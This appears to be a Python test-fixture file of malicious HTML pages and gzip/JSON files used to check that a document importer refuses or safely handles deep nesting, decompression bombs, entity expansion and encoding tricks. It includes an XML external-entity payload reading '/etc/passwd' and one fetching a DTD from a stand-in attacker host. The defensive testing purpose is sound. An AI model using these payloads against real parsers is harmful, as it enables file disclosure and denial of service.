"""Pages and files that are small to send and dear to read."""

import gzip
from collections.abc import Callable, Mapping

from tests.size import sized

MANY = sized(10_000, 100_000)
"""How often something is there that is there too often."""
MEGABYTE = 2**20

WORDS = "<P>One two three four five six.</P>"

# Each is either refused with this problem or imported; the empty text says that it is imported.
PAGES: Mapping[str, tuple[Callable[[], str], str]] = {
    "boxes in boxes": (lambda: "<div>" * MANY + WORDS, "the page nests more than 512"),
    "formatting in formatting": (lambda: "<b>" * MANY + WORDS, "the page nests more than 512"),
    "different formatting that is opened again": (
        lambda: "".join(f"<font size={n}>" for n in range(400)) + "<p>x" * 5_000,
        "the page has no paragraph, table or list",
    ),
    "tables in tables": (
        lambda: "<table><tr><td>" * (MANY // 3) + WORDS,
        "the page nests more than",
    ),
    "lists in lists": (lambda: "<ul><li>" * (MANY // 2) + WORDS, "the page nests more than 512"),
    "formulas in formulas": (
        lambda: "<math><mtext>" * (MANY // 2) + WORDS,
        "the page nests more than",
    ),
    "drawings in drawings": (
        lambda: "<svg><desc>" * (MANY // 2) + WORDS,
        "the page nests more than",
    ),
    "templates in templates": (
        lambda: "<template>" * (MANY // 2) + WORDS,
        "the page nests more than",
    ),
    "as deep as is allowed": (lambda: WORDS + "<div>" * 500 + WORDS + "</div>" * 500, ""),
    "ends of nothing": (lambda: WORDS + "</p></br></table></b>" * (MANY // 10), ""),
    "brackets": (lambda: WORDS + "<" * MANY, ""),
    "ends of tags": (lambda: WORDS + "</" * (5 * MANY), ""),
    "tags without an end": (lambda: WORDS + "<a b='" * MANY, ""),
    "quotes without an end": (lambda: WORDS + "<a b=\"'" * MANY, ""),
    "comments without an end": (lambda: WORDS + "<!--" * (2 * MANY), ""),
    "comments in comments": (lambda: WORDS + "<!--" * MANY + "-->" * (MANY // 5), ""),
    "scripts without an end": (lambda: WORDS + "<script>" * MANY, ""),
    "frames without an end": (lambda: WORDS + "<iframe>" * MANY, ""),
    "noscripts without an end": (lambda: WORDS + "<noscript>" * MANY, ""),
    "noscripts with an end": (lambda: WORDS + "<noscript></noscript>" * (MANY // 2), ""),
    "plain texts": (lambda: WORDS + "<plaintext>" * 400, ""),
    "entities": (lambda: WORDS + "<p>" + "&amp;" * (MANY // 2), ""),
    "entities that are none": (lambda: WORDS + "<p>" + "&amplification" * (MANY // 2), ""),
    "numbers of characters": (lambda: WORDS + "<p>" + "&#x1f600;" * MANY, ""),
    "a number with many digits": (lambda: WORDS + f"<p>&#{'9' * (10 * MANY)};x", ""),
    "attributes": (
        lambda: WORDS + "<p " + " ".join(f"a{n}=1" for n in range(MANY)) + ">x",
        f"a tag has {MANY:,} attributes",
    ),
    "attributes without values": (
        lambda: WORDS + "<p " + "/".join(f'"{n}' for n in range(MANY)) + ">x",
        f"a tag has {MANY:,} attributes",
    ),
    "attributes of an end": (
        lambda: WORDS + "</p " + " ".join(f"a{n}" for n in range(2 * MANY)) + ">x",
        "",
    ),
    "a long attribute": (lambda: WORDS + f"<p title='{'x' * (10 * MANY)}'>x", ""),
    "a long style": (lambda: WORDS + f"<p style='{'a:b;' * (2 * MANY)}'>x", ""),
    "a style of comments": (lambda: WORDS + f"<p style='{'/*' * (2 * MANY)}'>x", ""),
    "a long class": (lambda: WORDS + f"<p class='{'a ' * (5 * MANY)}'>x", ""),
    "an address of spaces": (lambda: WORDS + f"<a href='{' ' * (10 * MANY)}x'>x</a>", ""),
    "a long image": (
        lambda: WORDS + f"<img src='data:image/png;base64,{'A' * (10 * MANY)}!'>",
        "",
    ),
    "a long element": (lambda: WORDS + f"<{'x' * (10 * MANY)}>x", ""),
    "a long word": (lambda: WORDS + "<p>" + "x" * (10 * MANY), ""),
    "dots": (lambda: WORDS + "<p>" + "." * (10 * MANY), ""),
    "spaces": (lambda: WORDS + "<p>x" + " " * (10 * MANY) + "y", ""),
    "many cells": (lambda: "<table>" + "<tr><td>word" * (MANY // 5) + "</table>" + WORDS, ""),
    "entities in a document type": (
        lambda: (
            '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            f'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>{WORDS}<p>&c;'
        ),
        "the page's document type declares its own entities",
    ),
    "an entity from elsewhere": (
        lambda: f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>{WORDS}<p>&x;',
        "the page's document type declares its own entities",
    ),
    "a parameter entity from elsewhere": (
        lambda: f'<!DOCTYPE html [<!ENTITY % x SYSTEM "//evil.example/x.dtd"> %x;]>{WORDS}',
        "the page's document type declares its own entities",
    ),
}

FILES: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "blanks": (
        lambda: gzip.compress(b" " * (sized(20, 200) * MEGABYTE)),
        "the gzip file unpacks to more than",
    ),
    "one line": (
        lambda: gzip.compress(b'{"question_text": "' + b"x" * (sized(20, 64) * MEGABYTE), 9),
        "the gzip file unpacks to more than",
    ),
    "empty lines": (
        lambda: gzip.compress(b"\n" * (17 * MEGABYTE)),
        "the gzip file unpacks to more than",
    ),
    "a file in a file": (
        lambda: gzip.compress(gzip.compress(b"{}")),
        "this is a gzip file in a gzip file",
    ),
    "half a file": (lambda: gzip.compress(b'{"a": 1}\n' * 99)[:-9], ""),
    "brackets in brackets": (lambda: b"[" * (10 * MANY), ""),
    "objects in objects": (lambda: b'{"a":' * (5 * MANY), ""),
    "bytes that are too long for their character": (
        lambda: b'{"document_html": "\xc0\xbcscript\xc0\xbe"}',
        "",
    ),
    "another alphabet": (lambda: '{"a": "<script>"}'.encode("utf-16"), "this is a UTF-16 file"),
    "half a pair": (lambda: b'{"question_text": "\\ud800", "document_html": "x"}', ""),
}

PAGE_FILES: Mapping[str, bytes] = {
    "bytes that are too long for their character": b"<p>\xc0\xbcscript\xc0\xbeboom()</p>",
    "a quotation mark that eats the next byte": b'<p title="\xe0">x</p>',
    "two bytes for each letter": "<script>boom()</script><p>x</p>".encode("utf-16"),
    "a Japanese escape": b"<p>\x1b$B\xff</p>",
    "half of a pair": b"<p>\xed\xa0\x80</p>",
}
